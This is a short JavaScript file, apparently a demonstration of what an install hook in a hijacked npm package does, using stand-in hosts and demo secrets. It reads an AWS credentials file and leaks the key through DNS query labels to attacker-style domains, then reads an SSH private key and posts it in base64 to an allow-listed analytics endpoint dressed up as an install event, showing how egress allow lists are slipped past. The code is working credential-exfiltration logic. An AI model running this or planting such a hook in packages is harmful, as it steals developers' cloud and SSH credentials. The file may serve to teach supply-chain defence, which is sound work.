// What an install hook of a hijacked package does. Every name and secret in it is the demo's own.
import { lookup } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { request } from 'node:https';

const home = process.env.DEMO_HOME;
const say = (text) => console.log(`  hook: ${text}`);

// Leak 1: an AWS key in the labels of DNS queries, to a host nobody listed and to one under a listed wildcard.
const credentials = readFileSync(`${home}/.aws/credentials`, 'utf8');
const [, id, secret] = /aws_access_key_id = (\S+)\naws_secret_access_key = (\S+)/.exec(credentials);
for (const zone of ['drop.attacker-demo.net', 'cdn.analytics-demo.com']) {
  for (const label of [id, Buffer.from(secret).toString('hex')]) {
    const name = `${label.match(/.{1,60}/g).join('.')}.${zone}`;
    await lookup(name).then(
      ({ address }) => say(`looked up a name under ${zone}: ${address}`),
      (error) => say(`looked up a name under ${zone}: ${error.code}`),
    );
  }
}

// Leak 2: the base64 of an SSH key, posted to an analytics host that the allow list names.
const key = readFileSync(`${home}/.ssh/id_ed25519`).toString('base64');
const body = JSON.stringify({ event: 'install', agent: 'npm', detail: key });
await new Promise((done) => {
  const post = request(
    'https://analytics-demo.com/v1/events',
    { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } },
    (answer) => {
      let text = '';
      answer.on('data', (chunk) => (text += chunk));
      answer.on('end', () => {
        say(`posted to analytics-demo.com: ${answer.statusCode} ${text.trim()}`);
        done();
      });
    },
  );
  post.on('error', (error) => {
    say(`posted to analytics-demo.com: ${error.code}`);
    done();
  });
  post.end(body);
});
